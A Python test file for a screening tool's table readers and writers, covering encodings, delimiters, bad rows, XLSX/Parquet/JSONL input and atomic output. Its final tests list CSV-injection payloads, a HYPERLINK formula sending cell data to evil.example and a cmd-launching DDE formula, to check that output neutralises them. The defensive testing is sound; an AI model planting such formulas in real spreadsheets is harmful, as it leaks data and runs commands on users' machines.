"""Reading and writing customer tables: encodings, delimiters, bad rows, formats."""

from __future__ import annotations

import codecs
import csv
import json
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from exportscreen.screening.tabular import (
    MAX_FIELD_CHARS,
    BadRow,
    Column,
    ColumnKind,
    ColumnRole,
    Row,
    detect_csv_format,
    find_column,
    open_table,
    open_writer,
    resolve_columns,
)
from exportscreen.screening.tabular import writers as writers_module
from exportscreen.sources.common import SourceError

FIXTURES = Path(__file__).parent.parent / "fixtures" / "batch"
NAMES = ["Müller GmbH", "Société Générale", "Łódź Trading", "Beijing Zhongguancun"]


def _csv_text(delimiter: str) -> str:
    lines = [delimiter.join(["id", "name", "country"])]
    lines += [delimiter.join([str(i), name, "DE"]) for i, name in enumerate(NAMES, 1)]
    return "\r\n".join(lines) + "\r\n"


def _read_all(path: Path, wanted: list[str]) -> list[Row | BadRow]:
    with open_table(path) as source:
        indexes = [find_column(path, source.columns, w) for w in wanted]
        assert None not in indexes, source.columns
        return list(source.rows([i for i in indexes if i is not None]))


# --- encodings and delimiters ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        (_csv_text(",").encode("utf-8"), "utf-8"),
        (codecs.BOM_UTF8 + _csv_text(",").encode("utf-8"), "utf-8-sig"),
        (_csv_text("\t").encode("utf-16"), "utf-16"),  # Python writes a BOM, native order
        (codecs.BOM_UTF16_BE + _csv_text("\t").encode("utf-16-be"), "utf-16"),
        (_csv_text(";").encode("cp1252", errors="replace"), "cp1252"),
    ],
    ids=["utf-8", "utf-8-bom", "utf-16", "utf-16-be", "cp1252"],
)
def test_encoding_is_detected_and_names_come_back_intact(
    tmp_path: Path, data: bytes, encoding: str
) -> None:
    path = tmp_path / "customers.csv"
    path.write_bytes(data)
    assert detect_csv_format(path).encoding == encoding
    rows = _read_all(path, ["name"])
    expected = [name.encode(encoding, errors="replace").decode(encoding) for name in NAMES]
    assert [r.values[0] for r in rows if isinstance(r, Row)] == expected
    if encoding != "cp1252":  # cp1252 has no Ł: the others must keep every name exactly
        assert expected == NAMES


def test_mostly_utf8_file_with_a_stray_byte_stays_utf8_and_reports_the_row(tmp_path: Path) -> None:
    path = tmp_path / "customers.csv"
    good = "\n".join(f"{i},{NAMES[i % len(NAMES)]}" for i in range(1, 30))
    path.write_bytes(b"id,name\n" + good.encode() + b"\n30,Caf\xe9 Oslo\n31,Acme\n")
    assert detect_csv_format(path).encoding == "utf-8"
    rows = _read_all(path, ["name"])
    bad = [r for r in rows if isinstance(r, BadRow)]
    assert bad == [BadRow(30, 31, "name", "undecodable bytes")]
    last = rows[-1]
    assert isinstance(last, Row) and last.values == ("Acme",)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("id,name\n1,Acme\n".encode("utf-16-le"), "NUL bytes"),
        (b"id,name\n1,\x81\x8d\x8f\x90\n", "neither UTF-8 nor Windows-1252"),
    ],
    ids=["utf-16-without-bom", "not-cp1252"],
)
def test_undecidable_encoding_is_a_clear_error_naming_the_file(
    tmp_path: Path, data: bytes, message: str
) -> None:
    path = tmp_path / "mystery.csv"
    path.write_bytes(data)
    with pytest.raises(SourceError, match=message) as caught:
        open_table(path)
    assert caught.value.file == str(path)


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("id,name,country\n1,Acme,US\n2,Beta,CN\n", ","),
        ("id;name;country\n1;Acme, Inc.;US\n2;Beta, Ltd.;CN\n", ";"),
        ("id\tname\n1\tAcme, Inc.\n2\tBeta; Ltd.\n", "\t"),
        ("id|name\n1|Acme\n2|Beta\n", "|"),
        ('id,name\n1,"Acme; Inc."\n2,"Beta; Ltd."\n', ","),
        ("name\nAcme Inc.\nBeta Ltd.\n", ","),  # one column: nothing to split
    ],
    ids=["comma", "semicolon", "tab", "pipe", "quoted-semicolons", "single-column"],
)
def test_delimiter_is_detected(tmp_path: Path, text: str, delimiter: str) -> None:
    path = tmp_path / "customers.csv"
    path.write_text(text, encoding="utf-8")
    assert detect_csv_format(path).delimiter == delimiter
    rows = _read_all(path, ["name"])
    assert all(isinstance(r, Row) for r in rows)
    assert len(rows) == 2


def test_ambiguous_delimiter_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "ambiguous.csv"
    path.write_text("a;b,c\n1;2,3\n4;5,6\n", encoding="utf-8")
    with pytest.raises(SourceError, match="cannot tell the delimiter"):
        detect_csv_format(path)


def test_empty_file_is_an_error(tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    with pytest.raises(SourceError, match="empty"):
        open_table(path)


# --- bad rows --------------------------------------------------------------------------------


def test_fixture_bad_rows_are_reported_with_row_line_and_reason() -> None:
    # customers_bad.csv: row 2 has an extra field, row 4 spans two lines (quoted newline),
    # row 5 holds an oversized address, row 6 is fine.
    path = FIXTURES / "customers_bad.csv"
    rows = _read_all(path, ["id", "name", "address"])
    summary = [
        (r.number, r.line, r.field, r.reason) if isinstance(r, BadRow) else (r.number, r.line)
        for r in rows
    ]
    assert summary == [
        (1, 2),
        (2, 3, None, "4 fields where the header has 3"),
        (3, 4),
        (4, 5),
        (5, 7, "address", f"{MAX_FIELD_CHARS + 1:,} characters, more than {MAX_FIELD_CHARS:,}"),
        (6, 8),
    ]
    row4 = rows[3]
    assert isinstance(row4, Row) and row4.values[2] == "Line one\nLine two"


def test_field_beyond_the_csv_module_limit_costs_only_its_row(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    path.write_text(f'id,name\n1,"{"x" * 200_000}"\n2,Acme\n', encoding="utf-8")
    rows = _read_all(path, ["name"])
    # Which check refuses it depends on the process: the csv module's own limit (131,072
    # characters by default), or ours when a library has raised the module's (followthemoney
    # sets it to 30 MiB on import). Either way only that row is lost.
    assert isinstance(rows[0], BadRow) and rows[0].field in ("name", None)
    assert (
        "field larger than field limit" in rows[0].reason
        or f"more than {MAX_FIELD_CHARS:,}" in rows[0].reason
    )
    assert rows[1] == Row(2, 3, ("Acme",))


def test_blank_lines_are_skipped_without_consuming_row_numbers(tmp_path: Path) -> None:
    path = tmp_path / "blank.csv"
    path.write_text("id,name\n\n1,Acme\n\n2,Beta\n", encoding="utf-8")
    rows = _read_all(path, ["name"])
    assert rows == [Row(1, 3, ("Acme",)), Row(2, 5, ("Beta",))]


def test_column_lookup_ignores_case_and_refuses_ambiguity() -> None:
    path = Path("x.csv")
    assert find_column(path, ("ID", " Name ", "Country"), "name") == 1
    assert find_column(path, ("ID", "Name"), "country") is None
    with pytest.raises(SourceError, match="2 columns are named"):
        find_column(path, ("name", "NAME"), "Name")


def test_columns_resolve_to_roles_and_a_missing_required_one_names_file_and_column() -> None:
    header = ("Kunde", " NAME ", "Land")
    roles = [
        ColumnRole("name", "name", required=True),
        ColumnRole("country", "Land"),
        ColumnRole("id", "id"),
    ]
    assert resolve_columns("parties.csv", header, roles) == {"name": 1, "country": 2, "id": None}
    with pytest.raises(SourceError) as refused:
        resolve_columns("parties.csv", header, [ColumnRole("type", "Art", required=True)])
    assert str(refused.value) == (
        "parties.csv, field 'Art': no such column; the columns are 'Kunde', ' NAME ', 'Land'"
    )


# --- other input formats -------------------------------------------------------------------


def test_xlsx_is_read_from_the_first_sheet_with_typed_cells(tmp_path: Path) -> None:
    path = tmp_path / "customers.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["ID", "Name", "Country"])
    sheet.append([1001, "Müller GmbH", "DE"])
    sheet.append([None, None, None])  # blank row: skipped
    sheet.append([1002.0, "  ", "FR"])  # an id stored as float; a blank name is still a row
    sheet.append([1003, "Acme", "US", "stray"])  # a value beyond the header
    sheet.append([1004.5, "Beta", None])
    book.save(path)
    rows = _read_all(path, ["id", "name", "country"])
    assert rows == [
        Row(1, 2, ("1001", "Müller GmbH", "DE")),
        Row(2, 4, ("1002", "  ", "FR")),
        BadRow(3, 5, None, "values beyond the header's 3 columns"),
        Row(4, 6, ("1004.5", "Beta", None)),
    ]


def test_parquet_is_read_batch_by_batch_with_only_the_wanted_columns(tmp_path: Path) -> None:
    path = tmp_path / "customers.parquet"
    n = 20_000
    table = pa.table(
        {
            "Id": pa.array(range(n), type=pa.int64()),
            "NAME": [f"Company {i}" for i in range(n)],
            "notes": [None] * n,
            "blob": pa.array([[1]] * n),
        }
    )
    pq.write_table(table, path, row_group_size=5_000)
    with open_table(path) as source:
        assert source.expected_rows == n
        rows = list(source.rows([1, 0]))
    assert len(rows) == n
    assert rows[12_345] == Row(12_346, None, ("Company 12345", "12345"))
    with open_table(path) as source:
        first = next(source.rows([3]))
    assert first == BadRow(1, None, "blob", "expected text, found list")


def test_json_lines_bad_lines_and_case_insensitive_keys(tmp_path: Path) -> None:
    path = tmp_path / "customers.jsonl"
    lines = [
        json.dumps({"id": "a1", "Name": "Acme", "country": "US"}),
        "",
        json.dumps({"ID": 7, "NAME": "Beta"}),  # other case, no country
        "{not json",
        "[1, 2]",
        json.dumps({"id": "a4", "name": {"first": "x"}}),
    ]
    raw = "\n".join(lines).encode() + b'\n{"id": "a5", "name": "Caf\xe9"}\n'
    path.write_bytes(raw)
    rows = _read_all(path, ["id", "name", "country"])
    assert rows[0] == Row(1, 1, ("a1", "Acme", "US"))
    assert rows[1] == Row(2, 3, ("7", "Beta", None))
    assert isinstance(rows[2], BadRow) and rows[2].line == 4 and "not valid JSON" in rows[2].reason
    assert rows[3] == BadRow(4, 5, None, "not a JSON object")
    assert rows[4] == BadRow(5, 6, "Name", "expected text, found dict")
    assert rows[5] == BadRow(6, 7, None, "undecodable bytes (not UTF-8)")


def test_content_decides_the_format_over_the_extension(tmp_path: Path) -> None:
    path = tmp_path / "really_parquet.csv"
    pq.write_table(pa.table({"name": ["Acme"]}), path)
    assert _read_all(path, ["name"]) == [Row(1, None, ("Acme",))]
    legacy = tmp_path / "old.xls"
    legacy.write_bytes(b"\xd0\xcf\x11\xe0" + b"\0" * 100)
    with pytest.raises(SourceError, match=r"legacy \.xls"):
        open_table(legacy)


def test_csv_rows_are_read_lazily(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text("id,name\n" + "".join(f"{i},Company {i}\n" for i in range(200_000)))
    with open_table(path) as source:
        rows = source.rows([1])
        next(rows)
        fraction = source.fraction_read()
        assert fraction is not None and fraction < 0.05


# --- writers ---------------------------------------------------------------------------------

COLUMNS = (Column("id"), Column("rank", ColumnKind.INTEGER), Column("score", ColumnKind.REAL))
ROWS: list[tuple[Any, ...]] = [("a-1", 1, 0.93125), ('Łódź "quoted", comma', None, None)]


def _read_back(path: Path) -> list[tuple[Any, ...]]:
    suffix = path.suffix
    if suffix == ".parquet":
        return [tuple(r.values()) for r in pq.read_table(path).to_pylist()]
    if suffix == ".jsonl":
        return [tuple(json.loads(line).values()) for line in path.read_text().splitlines()]
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(path, read_only=True)
        rows = [r for sheet in book.worksheets for r in list(sheet.iter_rows(values_only=True))[1:]]
        book.close()
        # Read-only sheets trim trailing empty cells.
        return [r + (None,) * (len(COLUMNS) - len(r)) for r in rows]
    with open_table(path) as source:
        read = [r.values for r in source.rows([0, 1, 2]) if isinstance(r, Row)]
    return [(a, int(b) if b else None, float(c) if c else None) for a, b, c in read]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet", ".xlsx"])
def test_writer_round_trip_and_nothing_visible_before_commit(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    writer = open_writer(path, COLUMNS)
    writer.write(ROWS)
    assert not path.exists()
    writer.commit()
    assert _read_back(path) == ROWS
    assert [p.name for p in tmp_path.iterdir()] == [path.name]  # no temporary file left


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".xlsx"])
def test_discarded_writer_leaves_an_existing_file_untouched(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    path.write_bytes(b"previous run")
    with open_writer(path, COLUMNS) as writer:
        writer.write(ROWS)
    assert path.read_bytes() == b"previous run"
    assert len(list(tmp_path.iterdir())) == 1


def test_xlsx_rows_past_the_sheet_limit_continue_on_a_new_sheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(writers_module, "_XLSX_MAX_ROWS", 3)  # header + 2 rows per sheet
    path = tmp_path / "out.xlsx"
    writer = open_writer(path, COLUMNS)
    writer.write([(f"r{i}", i, None) for i in range(5)])
    writer.commit()
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["hits", "hits 2", "hits 3"]
    book.close()
    assert [r[0] for r in _read_back(path)] == ["r0", "r1", "r2", "r3", "r4"]


def test_unknown_output_extension_is_refused(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match=r"unknown output format '\.txt'"):
        open_writer(tmp_path / "out.txt", COLUMNS)


# Text a spreadsheet would evaluate, and what CSV and XLSX output holds instead (OWASP, "CSV
# injection"): a leading apostrophe, so that the cell is shown as the text it is.
FORMULA_CELLS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Acme = Widgets", "Acme = Widgets"),
    ("O'Brien Trading", "O'Brien Trading"),
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_spreadsheet_outputs_never_hold_a_formula(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    with open_writer(path, COLUMNS) as writer:
        writer.write([(given, 1, 0.5) for given, _ in FORMULA_CELLS])
        writer.commit()
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(path)
        cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)  # text, not a formula ("f")
        # XML reads a carriage return back as a line feed (openpyxl versions differ in whether
        # they escape it on writing): the guard, not the line ending, is under test here.
        written = [c.value.replace("\r", "\n") for c in cells]
        assert written == [expected.replace("\r", "\n") for _, expected in FORMULA_CELLS]
        return
    else:
        with path.open(newline="", encoding="utf-8") as handle:
            written = [row[0] for row in list(csv.reader(handle))[1:]]
    assert written == [expected for _, expected in FORMULA_CELLS]


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_outputs_no_spreadsheet_evaluates_keep_the_exact_text(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"out{suffix}"
    with open_writer(path, COLUMNS) as writer:
        writer.write([(given, 1, 0.5) for given, _ in FORMULA_CELLS])
        writer.commit()
    assert [row[0] for row in _read_back(path)] == [given for given, _ in FORMULA_CELLS]
